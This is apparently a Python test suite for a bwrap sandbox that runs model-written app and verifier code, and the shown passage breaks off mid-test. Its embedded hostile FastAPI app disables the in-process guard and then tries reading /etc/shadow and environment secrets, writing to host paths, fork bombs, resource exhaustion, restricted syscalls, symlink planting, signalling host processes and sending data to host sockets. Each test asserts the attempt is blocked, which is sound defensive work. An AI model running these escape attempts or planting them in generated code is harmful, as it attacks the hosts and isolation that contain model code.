"""ttg/AWM-v0 under attack: model-written app and verifier code that means harm, run in the bwrap sandbox.

Each attack is one route of a hostile app (or one verifier) that reports what it managed to do;
the test asserts it was blocked, seen from outside the sandbox where it matters (files, processes,
sockets, the environment). The comment by each names the mechanism that blocks it.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import sqlite3
import subprocess
import sys
import time
import uuid
import warnings

import pytest

from ttg_envs.envs.awm import AWMEnv
from ttg_envs.envs.awm.policies import call_text
from ttg_envs.envs.awm.sandbox import host_bwrap as isolation
from ttg_envs.envs.awm.sandbox.host_process import SandboxError
from ttg_envs.wrappers import branch

ATTACK_APP = r"""
import gc, json, os, resource, signal, socket, sys, time
from fastapi import FastAPI
from sqlalchemy import create_engine, text
engine = create_engine("sqlite:///episode.db", connect_args={"check_same_thread": False})
app = FastAPI()
MEMORY = {"n": 0}

def attempt(fn):
    try:
        return ["done", repr(fn())[:300]]
    except BaseException as exc:
        return ["blocked", f"{type(exc).__name__}: {exc}"[:300]]

def unguard():
    sandbox = sys.modules["ttg_envs.envs.awm.sandbox.inside_guard"]
    sandbox._Guard.__call__ = lambda *a: None
    for obj in gc.get_objects():
        if isinstance(obj, sandbox._Guard):
            obj.folder, obj.read_roots, obj.databases = "/", ("/",), set()
    return True

@app.post("/count", operation_id="bump")
def bump():
    with engine.begin() as c:
        c.execute(text("UPDATE counter SET n = n + 1"))
    with engine.connect() as c:
        return {"n": c.execute(text("SELECT n FROM counter")).scalar()}

@app.post("/stamp", operation_id="stamp")
def stamp():  # a write no replay repeats: the clock's value
    with engine.begin() as c:
        c.execute(text("UPDATE counter SET n = :n"), {"n": time.time_ns() % 1_000_000_007})
    return {"ok": True}

@app.post("/memory", operation_id="bump_memory")
def bump_memory():
    MEMORY["n"] += 1
    return MEMORY

@app.get("/guard", operation_id="patch_guard")
def patch_guard(secret: str, marker: str):
    return {"unguard": attempt(unguard), "system": attempt(lambda: os.system("true")),
            "read_secret": attempt(lambda: open(secret).read()), "shadow": attempt(lambda: open("/etc/shadow").read()),
            "write_host": attempt(lambda: open(marker, "w").write("pwned")),
            "write_system": attempt(lambda: open("/usr/ttg-pwned", "w").write("x")),
            "write_package": attempt(lambda: open(os.path.join(os.path.dirname(sys.modules["ttg_envs"].__file__),
                                                               "pwned.py"), "w").write("x")),
            "setuid": attempt(lambda: os.setuid(0))}

@app.get("/spawn", operation_id="fork_exec")
def fork_exec(token: str):
    import _posixsubprocess
    args = [b"/bin/sleep", token.encode()]
    errpipe = os.pipe()  # close-on-exec: EOF on its read end once the child has exec'd (as subprocess waits)
    pid = _posixsubprocess.fork_exec(args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1,
                                     *errpipe, True, True, -1, None, None, None, -1, None, False)
    os.close(errpipe[1])
    while os.read(errpipe[0], 4096):
        pass
    os.close(errpipe[0])
    return {"pid": pid}

@app.get("/bomb", operation_id="fork_bomb")
def fork_bomb():
    unguard()
    started, error = 0, None
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            started += 1
        except OSError as exc:
            error = f"{type(exc).__name__}: {exc}"
            break
    return {"started": started, "error": error}

@app.get("/flood", operation_id="flood")
def flood(kind: str):
    unguard()
    import threading
    if kind == "zombies":  # a child that never reaps the children it forks, each of which exits at once
        r, w = os.pipe()
        if os.fork() == 0:
            signal.signal(signal.SIGCHLD, signal.SIG_DFL)
            started, error = 0, None
            for _ in range(300):
                try:
                    if os.fork() == 0:
                        os._exit(0)
                    started += 1
                except OSError as exc:
                    error = f"{type(exc).__name__}: {exc}"
                    break
            os.write(w, json.dumps({"started": started, "error": error}).encode())
            time.sleep(30)
            os._exit(0)
        os.close(w)
        return json.loads(os.read(r, 4096))
    started, error = 0, None
    for _ in range(300):
        try:
            if kind == "threads":
                threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            elif os.fork() == 0:
                if kind == "sleepers":
                    time.sleep(30)
                os._exit(0)
            started += 1
        except (OSError, RuntimeError) as exc:
            error = f"{type(exc).__name__}: {exc}"
            break
    return {"started": started, "error": error}

@app.get("/shout", operation_id="shout")
def shout(mib: int):
    chunk = b"x" * (1 << 20)  # no newline, ever
    for _ in range(mib):
        os.write(1, chunk)
    return {"shouted": mib}

@app.get("/tmp_files", operation_id="tmp_files")
def tmp_files(write: str = ""):
    unguard()
    if write:
        open(os.path.join("/tmp", write), "w").write("left for the next episode")
    return {"files": sorted(os.listdir("/tmp"))}

def _forked(n, work):
    # Run work() in n forked children: the JSON each wrote before exiting or being killed.
    unguard()
    r, w = os.pipe()
    for _ in range(n):
        if os.fork() == 0:
            os.close(r)
            try:
                os.write(w, (json.dumps(work()) + "\n").encode())
            finally:
                os._exit(0)
    os.close(w)
    with os.fdopen(r) as f:
        return [json.loads(line) for line in f]

@app.get("/hog", operation_id="hog")
def hog(children: int, mib: int):
    def work():
        block = b"\1" * (mib << 20)  # every page written
        time.sleep(3)  # held while the others allocate
        return len(block)
    return {"held": len(_forked(children, work))}

@app.get("/spin", operation_id="spin")
def spin(children: int, seconds: float):
    def work():
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            pass
        return time.process_time()
    return {"cpu": sum(_forked(children, work))}

@app.get("/syscalls", operation_id="syscalls")
def syscalls():
    def work():  # in a one-thread child (unshare refuses a process with threads anyway)
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        out = {}
        for name, call in (("unshare_user", lambda: libc.unshare(0x10000000)), ("ptrace_traceme", lambda: libc.ptrace(0, 0, 0, 0)),
                           ("keyctl", lambda: libc.syscall(250, 0, -3, 0))):
            ctypes.set_errno(0)
            result = call()
            out[name] = "blocked" if result == -1 and ctypes.get_errno() == 1 else f"done ({result}, errno {ctypes.get_errno()})"
        return out
    return _forked(1, work)[0]

@app.get("/spray", operation_id="spray")
def spray(files: int, kib: int):
    unguard()
    with engine.begin() as c:
        c.execute(text("UPDATE counter SET n = n + 100"))
    block = b"x" * (kib << 10)
    for i in range(files):
        with open(f"spray-{i}", "wb") as f:
            f.write(block)
    return {"sprayed": files}

@app.get("/signal", operation_id="signal")
def send_signal(pid: int):
    unguard()
    return {"pidfd": attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)),
            "kill": attempt(lambda: os.kill(pid, signal.SIGKILL)), "kill_all": attempt(lambda: os.kill(-1, 0))}

@app.get("/unix", operation_id="connect")
def connect(path: str, abstract: str, port: int):
    unguard()
    def unix(address):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"stolen")
        return "connected"
    def tcp():
        return socket.create_connection(("127.0.0.1", port), timeout=2)
    return {"path": attempt(lambda: unix(path)), "abstract": attempt(lambda: unix("\0" + abstract)),
            "tcp": attempt(tcp), "dns": attempt(lambda: socket.getaddrinfo("example.com", 80))}

@app.get("/sqlite", operation_id="raw_sqlite")
def raw_sqlite(secret: str, created: str):
    import _sqlite3
    def read():
        conn = _sqlite3.connect(":memory:")
        conn.set_authorizer(None)
        conn.execute(f"ATTACH DATABASE '{secret}' AS s")
        return conn.execute("SELECT v FROM s.secret").fetchall()
    def create():
        conn = _sqlite3.connect(":memory:")
        conn.set_authorizer(None)
        conn.execute(f"ATTACH DATABASE '{created}' AS c")
        conn.execute("CREATE TABLE c.t (x)")
        conn.commit()
        return "created"
    return {"read": attempt(read), "create": attempt(create)}

@app.get("/env", operation_id="environment")
def environment():
    out = {"environ": dict(os.environ)}
    for path in ("/proc/self/environ", "/proc/1/environ", "/proc/2/environ"):
        out[path] = attempt(lambda: open(path, "rb").read().decode("latin-1"))
    return out

@app.get("/fds", operation_id="fds")
def fds():
    unguard()
    out = {"truncate_stdout": attempt(lambda: os.ftruncate(1, 0)),
           "truncate_stderr": attempt(lambda: os.ftruncate(2, 0)),
           "write": attempt(lambda: os.write(1, b"noise\n"))}
    out["open"] = {fd: attempt(lambda fd=fd: os.readlink(f"/proc/self/fd/{fd}")) for fd in range(64)
                   if attempt(lambda fd=fd: os.fstat(fd))[0] == "done"}
    return out

@app.get("/limits", operation_id="limits")
def limits():
    unguard()
    out = {}
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_NOFILE"):
        limit = getattr(resource, name)
        soft, hard = resource.getrlimit(limit)
        out[name] = {"soft": soft, "hard": hard,
                     "raise": attempt(lambda: resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))}
    return out

@app.get("/fill_tmp", operation_id="fill_tmp")
def fill_tmp():
    unguard()
    written, error, chunk = 0, None, b"x" * (1 << 20)
    try:
        for i in range(400):
            with open(f"/tmp/fill-{os.getpid()}-{i}", "wb") as f:
                f.write(chunk * 2)
            written += 2 << 20
    except OSError as exc:
        error = f"{type(exc).__name__}: {exc}"
    for name in os.listdir("/tmp"):
        if name.startswith(f"fill-{os.getpid()}-"):
            os.remove(os.path.join("/tmp", name))
    return {"written": written, "error": error}

@app.get("/burn", operation_id="burn")
def burn():
    while True:
        pass

@app.post("/spin_thread", operation_id="spin_thread")
def spin_thread():  # returns at once, leaving a thread that spins as long as the app lives
    import threading
    def spin():
        while True:
            pass
    threading.Thread(target=spin, daemon=True).start()
    return {"spinning": True}

@app.get("/plant", operation_id="plant")
def plant(kind: str, target: str = ""):
    unguard()
    folder = os.getcwd()
    os.chdir("/tmp")
    database = os.path.join(folder, "episode.db")
    os.remove(database)
    if kind == "symlink":
        os.symlink(target, database)
    elif kind == "relative":
        os.symlink(os.path.relpath(target, folder), database)
    elif kind == "dir":
        os.mkdir(database)
        open(os.path.join(database, "inside"), "w").write("x")
    return {"planted": kind}
"""

VERIFY = (
    "def verify_task_completion(initial_db_path, final_db_path, final_answer=None):\n    import sqlite3\n"
    "    rows = sqlite3.connect(final_db_path).execute('SELECT * FROM sqlite_master').fetchall()\n"
    "    return {'result': 'complete', 'rows': repr(rows)}\n"
)
DEEP_VERIFY = (
    "def verify_task_completion(initial_db_path, final_db_path, final_answer=None):\n    import gc\n"
    "    from multiprocessing.connection import Connection\n"
    "    conn = next(o for o in gc.get_objects() if isinstance(o, Connection))\n"
    "    conn.send_bytes(b'[' * 200000 + b']' * 200000)\n    import time; time.sleep(5)\n"
)
DEEP_APP = (
    "import gc\nfrom multiprocessing.connection import Connection\n"
    "conn = next(o for o in gc.get_objects() if isinstance(o, Connection))\n"
    "conn.send_bytes(b'{\"ok\": true, \"openapi\": ' + b'[' * 200000 + b']' * 200000 + b'}')\n"
    "import time; time.sleep(30)\n"
)


def _write_dataset(folder, scenarios):
    rows = {
        name: []
        for name in (
            "gen_scenario.jsonl",
            "gen_tasks.jsonl",
            "gen_db.jsonl",
            "gen_sample.jsonl",
            "gen_envs.jsonl",
            "gen_verifier.pure_code.jsonl",
        )
    }
    for name, code, verifiers in scenarios:
        rows["gen_scenario.jsonl"].append({"name": name, "description": "Hostile code."})
        rows["gen_tasks.jsonl"].append({"scenario": name, "tasks": [f"task {i}" for i in range(len(verifiers))]})
        rows["gen_db.jsonl"].append(
            {
                "scenario": name,
                "db_path": "x",
                "db_schema": {"tables": [{"name": "counter", "ddl": "CREATE TABLE counter (n INTEGER)", "indexes": []}]},
            }
        )
        rows["gen_sample.jsonl"].append(
            {
                "scenario": name,
                "sample_data": {"tables": [{"table_name": "counter", "insert_statements": ["INSERT INTO counter VALUES (0);"]}]},
            }
        )
        rows["gen_envs.jsonl"].append({"scenario": name, "db_path": "x", "full_code": code})
        rows["gen_verifier.pure_code.jsonl"] += [
            {"scenario": name, "task_idx": i, "task": "", "verification": {"code": v}} for i, v in enumerate(verifiers)
        ]
    for name, lines in rows.items():
        (folder / name).write_text("".join(json.dumps(r) + "\n" for r in lines))
    return folder


CANARY = f"ttg-canary-{uuid.uuid4().hex}"


@pytest.fixture(scope="module")
def dataset(tmp_path_factory):
    return _write_dataset(
        tmp_path_factory.mktemp("attack"),
        [
            ("attack_1", ATTACK_APP, [VERIFY, DEEP_VERIFY]),
            ("broken_1", DEEP_APP, [VERIFY]),
        ],
    )


@pytest.fixture(scope="module")
def env(dataset):
    os.environ["TTG_CANARY_SECRET"] = CANARY  # in the parent's environment before any sandbox starts
    # state_in_database: branches fork the running app (the bundled apps' way), not replay.
    env = AWMEnv(path=dataset, tool_timeout=20, verifier_timeout=10, state_in_database=True)
    yield env
    env.close()
    del os.environ["TTG_CANARY_SECRET"]


class _Side:
    """Where an attack runs: the episode itself, a branch forked from the episode's running app, the
    episode after a guided step adopted such a branch (its workspace and app are the branch's), or a
    guided step's trial branch (``start_trials``: forked and sent its first call at once; the other
    trial took the episode's own workspace, which the episode then takes again).

    ``open()`` gives the env to attack (its counter at ``base``), ``stop()`` stops its app (a reset
    of the episode; closing the branch), ``intact()`` checks the episode afterwards.
    """

    def __init__(self, env, kind: str):
        self.env, self.kind, self.target, self.stopped = env, kind, None, False
        self.base = {"episode": 0, "branch": 1, "adopted": 3, "trial": 3}[kind]

    def open(self):
        _fresh(self.env)
        if self.kind == "episode":
            self.target = self.env
            return self.env
        assert _call(self.env, "bump") == {"n": 1}  # the app runs, so the branch forks it
        if self.kind == "adopted":
            text = call_text("bump", {})
            trial = branch(self.env, "snapshot")
            trial.step(text)
            assert self.env.offer_step(trial)
            self.env.step(text)
            assert self.env._workspace is trial._workspace and _call(self.env, "bump") == {"n": 3}
            self.target = self.env
            return self.env
        if self.kind == "trial":
            text = call_text("bump", {})
            self.target, lent = self.env.start_trials([text, text + " "], "snapshot")
            assert lent._workspace.app is not None and self.env._lent is not None
            assert self.target.step(text)[0] == lent.step(text + " ")[0]
            lent.close()
            assert _call(self.target, "bump") == {"n": 3}
            assert self.target._workspace.app is not None
            return self.target
        self.target = branch(self.env, "snapshot")
        assert self.target.unwrapped._workspace.app is not None
        return self.target

    def stop(self) -> None:
        self.stopped = True
        if self.kind not in ("branch", "trial"):
            _fresh(self.env)
        elif self.target is not None:
            self.target.close()
            self.target = None

    def intact(self) -> None:
        # A reset episode counts from 0 (an episode not reset goes on from base); the branch's
        # original still holds its own 1.
        expected = 2 if self.kind in ("branch", "trial") else 1 if self.stopped else self.base + 1
        assert _call(self.env, "bump") == {"n": expected}


@pytest.fixture(params=["episode", "branch", "adopted", "trial"])
def side(env, request):
    side = _Side(env, request.param)
    yield side
    if side.kind in ("branch", "trial") and side.target is not None:
        side.target.close()


def _call(env, name, **arguments):
    obs = env.step(call_text(name, arguments))[0]
    body = obs.removeprefix("<tool_response>\n").removesuffix("\n</tool_response>")
    try:
        return json.loads(body)
    except ValueError:
        return body


def _fresh(env):
    env.reset(options={"task_id": "attack_1/0"})


def _secret_db(path):
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE secret (v TEXT)")
    conn.execute("INSERT INTO secret VALUES ('TOPSECRET')")
    conn.commit()
    conn.close()
    os.chmod(path, 0o644)
    return path


def test_patching_the_guard_reaches_nothing_outside(side, tmp_path):
    # Blocked by the mount namespace (host paths absent, system read-only) and uid 65534 (no setuid).
    env = side.open()
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET")
    marker = tmp_path / "marker"
    out = _call(env, "patch_guard", secret=str(secret), marker=str(marker))
    assert out["unguard"][0] == "done"  # the Python guard is off...
    for key in ("read_secret", "shadow", "write_host", "write_system", "write_package", "setuid"):
        assert out[key][0] == "blocked", (key, out[key])  # ...and still nothing outside is reachable
    assert not marker.exists() and "TOPSECRET" not in json.dumps(out)


def _processes_with(token: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if token.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            pass
    return found


def test_a_forked_grandchild_does_not_outlive_its_app(side):
    # Blocked by the fork server: the sandbox's subreaper, it stops what a stopped app left behind.
    _grandchild_gone_with_its_app(side, side.open())


def test_a_grandchild_is_not_frozen_alive_when_its_app_stops(side, monkeypatch):
    # Handled by the freezing thread sending a sweep before it freezes: a kill is answered before
    # the fork server sweeps, and a sandbox frozen in between kept the grandchild (frozen) until the
    # next call. Freezing at once after every call makes that window certain.
    from ttg_envs.envs.awm.sandbox import host_cgroup

    env = side.open()
    _freezable(env)
    monkeypatch.setattr(host_cgroup, "FREEZE_AFTER", 0.0)
    _grandchild_gone_with_its_app(side, env)


def _grandchild_gone_with_its_app(side, env) -> None:
    token = f"{time.time() % 1000:.6f}7"  # a unique sleep duration to find the process by
    out = _call(env, "fork_exec", token=token)
    assert isinstance(out, dict) and "pid" in out  # fork_exec itself works (the audit hook does not see it)
    # fork_exec returns once the child has exec'd sleep (a sandbox frozen before the exec would hide it).
    deadline = time.time() + 5
    while not _processes_with(token) and time.time() < deadline:
        time.sleep(0.05)
    assert _processes_with(token), "the grandchild should run during the episode"
    # As root the sandbox's own leased uid; otherwise the caller, mapped in the sandbox's user namespace.
    uid = env.unwrapped._workspace.sandbox.uid if os.geteuid() == 0 else os.getuid()
    assert uid != 0
    for pid in _processes_with(token):
        assert os.stat(f"/proc/{pid}").st_uid == uid
    side.stop()
    deadline = time.time() + 5
    while _processes_with(token) and time.time() < deadline:
        time.sleep(0.05)
    assert not _processes_with(token)
    side.intact()  # a branch's leftovers go, the original's app stays


def test_process_count_is_capped(side):
    # Blocked by RLIMIT_NPROC (hard) for uid 65534.
    env = side.open()
    out = _call(env, "fork_bomb")
    assert out["started"] < 64 and "Resource temporarily unavailable" in out["error"]
    side.stop()
    side.intact()


def test_a_closed_branchs_leftovers_are_swept_before_the_episodes_next_call(env, monkeypatch):
    # Blocked by Zygote.settle: a close is answered before the killed branch and what it started are
    # gone (swept later, so closes never wait on exits); they count against the process cap the
    # episode shares until then. The episode's next request sweeps first (under load the episode's
    # call once answered 500 with the fork bomb's sleepers still there).
    _fresh(env)
    assert _call(env, "bump") == {"n": 1}
    zygote = env._workspace.sandbox.zygote
    sweeps = []
    sweep = zygote.sweep
    monkeypatch.setattr(zygote, "sweep", lambda: sweeps.append(zygote._unswept) or sweep())
    child = branch(env, "snapshot")
    assert _call(child, "fork_bomb")["started"] > 0
    assert sweeps == []  # nothing was killed yet: the branch's fork and call swept nothing
    child.close()
    assert _call(env, "bump") == {"n": 2}
    assert len(sweeps) == 1 and not zygote._unswept  # swept once, before the request went out
    assert _call(env, "bump") == {"n": 3} and len(sweeps) == 1  # nothing killed since: no sweep


@pytest.mark.parametrize("kind", ["sleepers", "zombies", "threads"])
def test_one_envs_processes_never_starve_another(dataset, kind):
    # Blocked by a process count per sandbox: as root one leased uid each (RLIMIT_NPROC counts per
    # uid), otherwise one user namespace each. Before, all sandboxes shared uid 65534's 64 processes.
    with AWMEnv(path=dataset, tool_timeout=20, state_in_database=True) as victim, AWMEnv(path=dataset, tool_timeout=20) as hostile:
        _fresh(victim)
        _fresh(hostile)
        assert victim._workspace.sandbox is not hostile._workspace.sandbox
        out = _call(hostile, "flood", kind=kind)
        assert isinstance(out, dict) and out["started"] < 64 and out["error"], out  # it hit its own sandbox's cap...
        _fresh(victim)  # ...and the other env forks, starts threads and branches as before
        assert _call(victim, "bump") == {"n": 1}
        with branch(victim, "snapshot") as child:
            assert _call(child, "bump") == {"n": 2}
        with AWMEnv(path=dataset, tool_timeout=20) as third:  # a new sandbox starts too
            _fresh(third)
            assert _call(third, "bump") == {"n": 1}


def _rss() -> int:
    with open("/proc/self/status") as f:
        return next(int(line.split()[1]) << 10 for line in f if line.startswith("VmRSS:"))


def test_output_without_newlines_does_not_grow_the_host(env):
    # Blocked by reading the sandbox's stdout in chunks and keeping only its last OUTPUT_BYTES.
    from ttg_envs.envs.awm.sandbox.host_process import OUTPUT_BYTES

    _fresh(env)
    _call(env, "bump")
    before = _rss()
    assert _call(env, "shout", mib=128) == {"shouted": 128}  # returns once the host has read all but a pipe's worth
    zygote = env._workspace.zygote
    time.sleep(0.2)
    assert _rss() - before < 32 << 20 and len(zygote._output) <= OUTPUT_BYTES and zygote.output.endswith("x")
    _fresh(env)
    assert _call(env, "bump") == {"n": 1}


def test_tmp_is_cleared_at_reset_and_in_the_pool(dataset):
    # Blocked by the fork server clearing the sandbox's /tmp at a reset (no branch using it) and when
    # the sandbox goes to the pool: one episode's app leaves nothing there for the next.
    with AWMEnv(path=dataset, tool_timeout=20) as first:
        _fresh(first)
        assert "planted" in _call(first, "tmp_files", write="planted")["files"]
        _fresh(first)
        assert "planted" not in _call(first, "tmp_files")["files"]
        _call(first, "tmp_files", write="planted")
        sandbox = first._workspace.sandbox
    with AWMEnv(path=dataset, tool_timeout=20) as second:
        assert second._workspace.sandbox is sandbox  # pooled
        _fresh(second)
        assert "planted" not in _call(second, "tmp_files")["files"]


@pytest.fixture
def bounded_sandbox(dataset, monkeypatch):
    """A new env whose sandbox's cgroup allows 0.2 cores and 256 MiB; skipped where no cgroup can be made."""
    from ttg_envs.envs.awm.env import _Sandbox, close_idle_sandboxes
    from ttg_envs.envs.awm.sandbox import host_cgroup

    monkeypatch.setattr(_Sandbox, "_pool", {})  # a new sandbox, made with these totals
    monkeypatch.setattr(host_cgroup, "CPUS", 0.2)
    monkeypatch.setattr(host_cgroup, "MEMORY_BYTES", 256 << 20)
    with AWMEnv(path=dataset, tool_timeout=30, state_in_database=True) as env:
        if env._workspace.sandbox.cgroup is None:
            pytest.skip("no writable cgroup with cpu, memory and pids here (the host is not root, or is in a container)")
        _fresh(env)
        yield env
    close_idle_sandboxes()  # this test's pool


def test_the_sandboxs_memory_is_bounded_in_all(bounded_sandbox):
    # Blocked by the sandbox's memory cgroup: children each far below their own address-space limit
    # cannot add up past the sandbox's total; the OOM killer stops one of them, not the host.
    out = _call(bounded_sandbox, "hog", children=3, mib=128)
    assert not isinstance(out, dict) or out["held"] < 3, out
    _fresh(bounded_sandbox)
    assert _call(bounded_sandbox, "bump") == {"n": 1}


def test_the_sandboxs_cpu_is_bounded_in_all(bounded_sandbox):
    # Blocked by the sandbox's CPU quota: two processes spinning for 2 s get 0.2 cores between them.
    out = _call(bounded_sandbox, "spin", children=2, seconds=2)
    assert isinstance(out, dict) and out["cpu"] < 0.2 * 2 + 0.3, out
    assert _call(bounded_sandbox, "bump") == {"n": 1}


def _freezable(env):
    cgroup = env.unwrapped._workspace.sandbox.cgroup
    if cgroup is None or cgroup.switch is None or cgroup.usage_us() is None:
        pytest.skip("no cgroup with a freezer and CPU accounting here (the host is not root, or is in a container)")
    return cgroup


def test_a_thread_left_spinning_uses_no_cpu_after_its_call(side):
    # Blocked by freezing the sandbox's cgroup FREEZE_AFTER after each call (host_cgroup.FREEZE):
    # before, the thread burnt a core until the app was stopped (or its RLIMIT_CPU of 600 s ran out).
    env = side.open()
    cgroup = _freezable(env)
    assert _call(env, "spin_thread") == {"spinning": True}
    before = cgroup.usage_us()
    time.sleep(2)
    assert cgroup.usage_us() - before < 500_000 and cgroup.frozen
    assert _call(env, "bump") == {"n": side.base + 1}  # thawed for the next call, which answers as before
    side.stop()
    side.intact()


def test_a_frozen_sandbox_closes_promptly(dataset, monkeypatch):
    # Handled by thawing before every stop: a frozen process neither reads its closed socket nor dies.
    from ttg_envs.envs.awm.env import _Sandbox, close_idle_sandboxes

    monkeypatch.setattr(_Sandbox, "_pool", {})
    with AWMEnv(path=dataset, tool_timeout=20, state_in_database=True) as env:
        cgroup = _freezable(env)
        _fresh(env)
        assert _call(env, "spin_thread") == {"spinning": True}
        child = branch(env, "snapshot")  # a forked app too, spinning as well
        time.sleep(0.5)
        assert cgroup.frozen
        start = time.monotonic()
        child.close()
    close_idle_sandboxes()
    assert time.monotonic() - start < 5 and not any(f.exists() for f in cgroup.folders)
    assert env._workspace.sandbox.zygote._freezer is None  # no freezing thread left


_FROZEN_CGROUP_HOST = """
import time
from ttg_envs.envs.awm import AWMEnv
from ttg_envs.envs.awm.policies import call_text
env = AWMEnv(scenarios=["crm_1"])
env.reset(options={"task_id": "crm_1/0"})
env.step(call_text("list_deals", {}))
cgroup = env._workspace.sandbox.cgroup
time.sleep(0.5)
print(cgroup is not None and cgroup.frozen, *(cgroup.folders if cgroup else []), flush=True)
time.sleep(300)
"""


def test_a_dead_hosts_frozen_cgroup_is_removed_at_the_next_create():
    # Handled by _remove_abandoned thawing a dead host's cgroup and killing what is in it: a host
    # killed while its sandbox was frozen leaves its processes frozen there (on v1 not even SIGKILL
    # ends them), so the cgroup could never be removed.
    from pathlib import Path

    from ttg_envs.envs.awm.sandbox.host_cgroup import SandboxCgroup

    host = subprocess.Popen([sys.executable, "-c", _FROZEN_CGROUP_HOST], stdout=subprocess.PIPE, text=True, env=_subprocess_env())
    try:
        frozen, *folders = host.stdout.readline().split()
    finally:
        host.kill()
        host.wait()
    if frozen != "True":
        pytest.skip("no cgroup with a freezer here (the host is not root, or is in a container)")
    folders = [Path(f) for f in folders]
    time.sleep(0.5)
    assert all(f.is_dir() for f in folders)  # nothing of the dead host could clean up
    procs = folders[0] / "cgroup.procs"
    assert procs.read_text().split(), "the dead host's sandbox processes should still be there, frozen"
    cgroup = SandboxCgroup.create("ttg-awm-test-create")  # not a uid name: it sweeps, nothing else
    try:
        assert cgroup is not None
        assert not any(f.exists() for f in folders)
    finally:
        if cgroup is not None:
            cgroup.close()


def test_no_cgroup_warns_once(monkeypatch):
    from ttg_envs.envs.awm.sandbox import host_cgroup

    def unreadable():
        raise OSError("no /proc/self/mountinfo")

    monkeypatch.setattr(host_cgroup, "_mounts", unreadable)
    monkeypatch.setattr(host_cgroup, "_warned", False)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert host_cgroup.SandboxCgroup.create("ttg-awm-1") is None
        assert host_cgroup.SandboxCgroup.create("ttg-awm-2") is None
        host_cgroup.warn_unavailable("the host is not root")
    messages = [str(w.message) for w in caught if issubclass(w.category, RuntimeWarning)]
    assert len(messages) == 1 and "not enforced" in messages[0] and "not frozen" in messages[0], messages


def test_exposed_kernel_calls_are_refused(side):
    # Blocked by the seccomp filter bwrap installs (sandbox/host_seccomp.py): EPERM, even with the guard off.
    from ttg_envs.envs.awm.sandbox import host_seccomp

    if host_seccomp.program() is None:
        pytest.skip("the seccomp program is built for x86-64 only")
    out = _call(side.open(), "syscalls")
    assert out == {"unshare_user": "blocked", "ptrace_traceme": "blocked", "keyctl": "blocked"}, out
    side.stop()
    side.intact()


@pytest.mark.parametrize("what", ["bytes", "files"])
def test_the_sandboxs_files_are_bounded_in_all(side, monkeypatch, what):
    # Blocked by the check after each tool call (host_folder.DISK_BYTES / DISK_FILES): the step is
    # invalid and names the bound, the app is stopped, its files but the database are removed.
    from ttg_envs.envs.awm.sandbox import host_folder

    monkeypatch.setattr(host_folder, "DISK_BYTES", 4 << 20)
    monkeypatch.setattr(host_folder, "DISK_FILES", 100)
    env = side.open()
    folder = env.unwrapped._workspace.folder.path
    files, kib = (40, 256) if what == "bytes" else (300, 0)
    obs, _, _, _, info = env.step(call_text("spray", {"files": files, "kib": kib}))
    assert info["action_valid"] is False and "the bound is 4194304 bytes and 100 entries" in obs, obs
    assert not [n for n in os.listdir(folder) if n.startswith("spray-")]
    assert _call(env, "bump") == {"n": side.base + 101}  # the call's database writes stay; a new app serves them
    side.stop()
    side.intact()


@pytest.mark.parametrize("what", ["bytes", "files"])
def test_the_sandboxs_files_are_bounded_by_the_kernel_within_a_call(dataset, monkeypatch, what):
    # Blocked, where the host can mount (root), by the sandbox folder being a tmpfs of
    # host_folder.kernel_quota(): the app's writes stop with ENOSPC inside the call, and the check
    # after it names the bound. Before, all 64 MiB (or 300 files) of one call reached the host's disk
    # first. Where the host cannot mount (the unprivileged path), the check after the call holds alone.
    import re

    from ttg_envs.envs.awm.env import _Sandbox, close_idle_sandboxes
    from ttg_envs.envs.awm.sandbox import host_folder

    monkeypatch.setattr(_Sandbox, "_pool", {})  # a new sandbox, mounted with these totals
    monkeypatch.setattr(host_folder, "DISK_BYTES", 4 << 20)
    monkeypatch.setattr(host_folder, "DISK_FILES", 100)
    try:
        with AWMEnv(path=dataset, tool_timeout=30, state_in_database=True) as env:
            if os.geteuid() != 0:
                assert not env._workspace.sandbox.folder.kernel_bounded
                pytest.skip("only root mounts the tmpfs; the check after each call bounds the files here")
            assert env._workspace.sandbox.folder.kernel_bounded
            _fresh(env)
            files, kib = (64, 1024) if what == "bytes" else (300, 0)
            obs, _, _, _, info = env.step(call_text("spray", {"files": files, "kib": kib}))
            used, entries = map(int, re.search(r"files at (\d+) bytes in (\d+) entries", obs).groups())
            size, inodes = host_folder.kernel_quota()
            assert info["action_valid"] is False and used <= size and entries <= inodes, obs
            _fresh(env)
            assert _call(env, "bump") == {"n": 1}
    finally:
        close_idle_sandboxes()


def test_processes_outside_cannot_be_signalled(side):
    # Blocked by the PID namespace (the pid names nothing, or a sandbox process) and the uid.
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        env = side.open()
        out = _call(env, "signal", pid=victim.pid)
        assert out["pidfd"][0] == "blocked" and out["kill"][0] == "blocked", out
        time.sleep(0.2)
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


def test_no_socket_reaches_the_host(side, tmp_path):
    # Blocked by the network namespace (TCP, DNS, abstract AF_UNIX) and the mount namespace (path AF_UNIX).
    os.chmod(tmp_path, 0o777)
    path = str(tmp_path / "host.sock")
    abstract = f"ttg-attack-{uuid.uuid4().hex}"
    listeners = []
    for address in (path, "\0" + abstract):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(address)
        s.listen()
        s.settimeout(0.2)
        listeners.append(s)
    os.chmod(path, 0o777)
    tcp = socket.create_server(("127.0.0.1", 0))
    tcp.settimeout(0.2)
    try:
        env = side.open()
